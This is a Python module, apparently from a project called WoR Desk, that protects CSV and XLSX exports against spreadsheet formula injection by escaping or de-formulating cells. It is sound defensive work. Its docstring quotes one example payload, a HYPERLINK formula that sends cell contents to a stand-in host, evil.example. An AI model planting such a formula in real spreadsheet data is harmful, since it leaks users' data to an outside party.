"""Cells that no spreadsheet evaluates: the one place every CSV and XLSX writer goes through.

A text that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula (or
becomes one) when Excel, LibreOffice or Google Sheets opens the file; a town imported as
`=HYPERLINK("http://evil.example/?"&A1,"Utrecht")` would run in the coach's spreadsheet.

- CSV: such a text gets a leading `'` (the OWASP rule); `csv_cell`, `csv_row`, `csv_text`.
- XLSX: every text is a string cell, never a formula; `text_only(workbook)` before saving.
- Numbers stay numbers: an int, float or Decimal, and a text that is a plain number
  (`-3`, `12.5`), pass unchanged.
- Reading a CSV back that WoR Desk wrote: `csv_uncell` takes the `'` off again.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from decimal import Decimal

#: First characters that make a spreadsheet treat a text cell as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?\Z")


def csv_cell(value: object) -> object:
    """One CSV cell, safe to open in a spreadsheet (OWASP rule); numbers unchanged."""
    if value is None or isinstance(value, (bool, int, float, Decimal)):
        return value
    text = str(value)
    if text.startswith(FORMULA_START) and not _NUMBER.match(text):
        return "'" + text
    return text


def csv_row(values: Iterable[object]) -> list[object]:
    return [csv_cell(v) for v in values]


def csv_text(rows: Iterable[Iterable[object]], **fmtparams) -> str:
    """Rows as CSV text, every cell through `csv_cell` (`fmtparams` as for `csv.writer`)."""
    buf = io.StringIO(newline="")
    w = csv.writer(buf, **fmtparams)
    for row in rows:
        w.writerow(csv_row(row))
    return buf.getvalue()


def csv_uncell(text: str) -> str:
    """A cell read from a CSV that `csv_cell` wrote: the protective `'` taken off again."""
    if len(text) > 1 and text[0] == "'" and text[1:].startswith(FORMULA_START):
        return text[1:]
    return text


def text_only(workbook) -> None:
    """Turn every formula cell of an openpyxl workbook into a string cell (WoR Desk writes no
    formulas: a text that looks like one came from data). Call just before saving."""
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"


def csv_resafe(text: str, **fmtparams) -> str:
    """A CSV received from elsewhere (the collector's totals) written out again cell by cell
    through `csv_cell`: safe even when the sender did not escape. Idempotent."""
    fmtparams.setdefault("lineterminator", "\n")
    return csv_text(csv.reader(io.StringIO(text, newline="")), **fmtparams)
